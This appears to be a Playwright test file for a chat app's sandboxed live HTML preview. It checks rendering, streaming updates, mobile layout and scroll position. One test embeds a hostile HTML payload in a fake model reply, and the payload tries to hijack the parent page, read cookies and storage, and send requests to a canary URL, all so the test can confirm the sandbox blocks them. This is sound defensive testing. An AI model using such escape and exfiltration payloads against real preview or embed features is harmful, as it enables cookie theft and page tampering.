"""Live preview in a real browser: a small app the model writes takes shape in the preview while it streams and then
works (its button counts), an SVG and a Mermaid diagram show in the same sandbox, and a preview that tries to escape
(the page's DOM, its cookies, top navigation, fetch, an image, a websocket, a popup, a form, a meta refresh) gets
nowhere: a loopback canary sees nothing and the chat page is unchanged. Screenshots: tests/browser/screenshots/."""

from __future__ import annotations

import time

from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, expect

from tests.browser.conftest import screenshot
from tests.browser.test_chat_in_browser import TIMEOUT, last_reply, send
from tests.browser.test_reading_in_browser import tokens_of as pieces
from tests.fakes.provider_server import Reply

COUNTER_APP = (
    "Here is a counter:\n\n```html\n<!doctype html>\n<html><head><style>body{font:16px sans-serif}</style></head>\n"
    '<body>\n<h1>Counter</h1>\n<p>Clicked <span id="count">0</span> times.</p>\n'
    '<button id="more">Count</button>\n'
    "<script>\ndocument.getElementById('more').onclick = () => {\n"
    "  const n = document.getElementById('count'); n.textContent = Number(n.textContent) + 1;\n};\n</script>\n"
    "</body></html>\n```\n\nClick the button."
)


def preview_frame(page: Page):
    return page.locator('[data-role="preview"] iframe[title="Preview"]')


def in_preview(page: Page, script: str):
    """Run `script` in the preview's document; one being replaced by an update is tried again a moment later."""
    for _ in range(20):
        try:
            return preview_frame(page).element_handle().content_frame().evaluate(script)
        except PlaywrightError:
            page.wait_for_timeout(50)
    raise AssertionError("the preview never settled")


def test_a_streamed_html_app_takes_shape_in_the_preview_and_then_works(page: Page, app_server):
    app_server.fakes["openai"].play(Reply(tokens=pieces(COUNTER_APP, 9), delay=0.08))
    page.goto(app_server.url)
    send(page, "Make me a counter")

    reply = last_reply(page)
    preview_button = reply.get_by_role("button", name="Preview")
    expect(preview_button).to_be_visible(timeout=TIMEOUT)
    expect(reply).to_have_attribute("data-status", "streaming")
    opened_at = time.monotonic()
    preview_button.click()  # while the model is still writing

    frame = page.frame_locator('[data-role="preview"] iframe[title="Preview"]')
    expect(frame.locator("h1")).to_have_text("Counter", timeout=TIMEOUT)
    assert preview_frame(page).get_attribute("sandbox") == "allow-scripts"
    expect(reply).to_have_attribute("data-status", "complete", timeout=TIMEOUT)
    page.wait_for_timeout(600)  # the update once the block is finished
    renders, followed_for = page.evaluate("window.chatPreview.renders"), time.monotonic() - opened_at
    # It followed the block as it grew, at most every 250 ms (and once more at the end), not once per patch.
    assert 3 <= renders <= followed_for / 0.25 + 2, (renders, followed_for)
    expect(frame.get_by_role("button", name="Count")).to_be_visible(timeout=TIMEOUT)
    frame.get_by_role("button", name="Count").click()
    frame.get_by_role("button", name="Count").click()
    expect(frame.locator("#count")).to_have_text("2")
    screenshot(page, "preview-desktop")

    with page.context.expect_page() as opened:
        page.get_by_role("button", name="Open the preview in a new tab").click()
    tab = opened.value  # a page of its own holding the same sandboxed frame
    expect(tab.frame_locator('iframe[title="Preview"]').locator("h1")).to_have_text("Counter", timeout=TIMEOUT)
    assert tab.url.startswith("blob:") and tab.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    tab.close()

    page.get_by_role("tab", name="Code").click()
    expect(page.locator(".preview-code")).to_contain_text("document.getElementById('more')")
    page.get_by_role("tab", name="Preview").click()

    page.reload()  # the panel stays open for this conversation, on its last previewable block
    expect(page.frame_locator('[data-role="preview"] iframe[title="Preview"]').locator("h1")).to_have_text(
        "Counter", timeout=TIMEOUT
    )
    page.get_by_role("button", name="Close the preview").click()
    expect(page.locator('[data-role="preview"]')).to_be_hidden()
    page.reload()
    expect(last_reply(page)).to_have_attribute("data-status", "complete", timeout=TIMEOUT)
    expect(page.locator('[data-role="preview"]')).to_have_count(0)


def test_on_a_phone_the_preview_takes_the_whole_screen(browser, app_server):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    page = context.new_page()
    try:
        app_server.fakes["openai"].play(Reply(tokens=pieces(COUNTER_APP, 40)))
        page.goto(app_server.url)
        send(page, "Make me a counter")
        expect(last_reply(page)).to_have_attribute("data-status", "complete", timeout=TIMEOUT)
        last_reply(page).get_by_role("button", name="Preview").click()
        frame = page.frame_locator('[data-role="preview"] iframe[title="Preview"]')
        expect(frame.locator("h1")).to_have_text("Counter", timeout=TIMEOUT)
        box = page.locator('[data-role="preview"]').bounding_box()
        assert box["width"] >= 389 and box["height"] >= 800
        screenshot(page, "preview-phone")
    finally:
        context.close()


def test_svg_and_mermaid_show_in_the_same_sandbox(page: Page, app_server):
    text = (
        "```svg\n<svg xmlns='http://www.w3.org/2000/svg' width='120' height='60'>"
        "<rect width='120' height='60' fill='teal'/><text x='10' y='35'>Hello</text></svg>\n```\n\n"
        "```mermaid\ngraph LR\n  Flour --> Dough --> Bread\n```\n"
    )
    app_server.fakes["openai"].play(Reply(tokens=pieces(text, 30)))
    page.goto(app_server.url)
    send(page, "Draw")
    reply = last_reply(page)
    expect(reply).to_have_attribute("data-status", "complete", timeout=TIMEOUT)

    reply.get_by_role("button", name="Preview").first.click()
    frame = page.frame_locator('[data-role="preview"] iframe[title="Preview"]')
    expect(frame.locator("svg text")).to_have_text("Hello", timeout=TIMEOUT)
    assert reply.locator("svg rect[fill='teal']").count() == 0, "the SVG itself never joins the page"

    page.get_by_role("button", name="Close the preview").click()
    page.keyboard.press("Alt+Shift+P")  # the last block that can be previewed: the diagram
    expect(frame.locator("svg")).to_contain_text("Dough", timeout=TIMEOUT)
    assert reply.get_by_role("button", name="Preview").last.get_attribute("aria-pressed") == "true"


def test_a_preview_that_tries_to_escape_gets_nowhere(browser, app_server, canary):
    # A page of its own: the policy refusing these attempts is what is tested, so its reports are expected here.
    context = browser.new_context(viewport={"width": 1100, "height": 800})
    page = context.new_page()
    try:
        escape_attempts(page, app_server, canary)
    finally:
        context.close()


def escape_attempts(page: Page, app_server, canary) -> None:
    canary_url, hits = canary
    attempts = f"""```html
<!doctype html><html><head><meta http-equiv="refresh" content="2;url={canary_url}/refresh"></head><body>
<p id="out">running</p>
<form id="f" method="post" action="{canary_url}/form"><input name="x" value="1"></form>
<script>
const tried = [];
const attempt = (name, fn) => {{
  try {{ fn(); tried.push(name + ":ran"); }} catch (e) {{ tried.push(name + ":blocked"); }}
}};
attempt("parent", () => {{ parent.document.body.innerHTML = "pwned"; }});
attempt("top", () => {{ top.location = "{canary_url}/top"; }});
attempt("cookie", () => {{ document.cookie; }});
attempt("storage", () => {{ localStorage.setItem("x", "1"); }});
attempt("fetch", () => {{ fetch("{canary_url}/fetch").catch(() => {{}}); }});
attempt("image", () => {{ new Image().src = "{canary_url}/image"; }});
attempt("socket", () => {{ new WebSocket("{canary_url.replace("http", "ws")}/socket"); }});
attempt("popup", () => {{ window.open("{canary_url}/popup"); }});
attempt("form", () => {{ document.getElementById("f").submit(); }});
attempt("beacon", () => {{ navigator.sendBeacon("{canary_url}/beacon", "x"); }});
attempt("same-server", () => {{ fetch("/api/models").catch(() => {{}}); }});
document.getElementById("out").textContent = tried.join(" ");
</script></body></html>
```
"""
    app_server.fakes["openai"].play(Reply(tokens=pieces(attempts, 60)))
    page.goto(app_server.url)
    send(page, "Escape")
    reply = last_reply(page)
    expect(reply).to_have_attribute("data-status", "complete", timeout=TIMEOUT)
    before = page.evaluate("document.body.innerHTML.length")
    cookies_before = page.context.cookies()

    reply.get_by_role("button", name="Preview").click()
    frame = page.frame_locator('[data-role="preview"] iframe[title="Preview"]')
    expect(frame.locator("#out")).not_to_have_text("running", timeout=TIMEOUT)
    said = frame.locator("#out").text_content()
    screenshot(page, "preview-escape-attempts")
    page.wait_for_timeout(3500)  # past the meta refresh, and time for anything sent to arrive

    assert "parent:blocked" in said and "cookie:blocked" in said and "storage:blocked" in said, said
    assert hits == [], f"the canary was reached: {hits}"
    assert page.url.startswith(app_server.url) and page.evaluate("document.body.innerHTML") != "pwned"
    assert len(page.context.pages) == 1, "no popup opened"
    assert page.context.cookies() == cookies_before
    assert abs(page.evaluate("document.body.innerHTML.length") - before) < 20_000  # the panel, nothing else
    expect(reply).to_have_attribute("data-status", "complete")


def test_a_preview_that_updates_while_streaming_keeps_its_scroll_position(page: Page, app_server):
    paragraphs = "".join(f"<p style='height:60px'>Paragraph {n}</p>\n" for n in range(60))
    text = f"```html\n<!doctype html><body>\n{paragraphs}"
    app_server.fakes["openai"].play(Reply(tokens=[text, *pieces("<p>more</p>\n" * 40, 12)], delay=0.1))
    page.goto(app_server.url)
    send(page, "A long page")
    last_reply(page).get_by_role("button", name="Preview").click(timeout=TIMEOUT)
    frame = page.frame_locator('[data-role="preview"] iframe[title="Preview"]')
    expect(frame.locator("p").first).to_have_text("Paragraph 0", timeout=TIMEOUT)

    for _ in range(10):  # an update may replace the document just as it is scrolled: scroll again
        in_preview(page, "scrollTo(0, 1200)")
        page.wait_for_timeout(300)  # the frame says where it is
        if abs(in_preview(page, "scrollY") - 1200) < 5:
            break
    renders = page.evaluate("window.chatPreview.renders")
    page.wait_for_function(f"window.chatPreview.renders > {renders}", timeout=TIMEOUT)  # an update came
    page.wait_for_timeout(300)  # and loaded

    assert abs(in_preview(page, "scrollY") - 1200) < 5
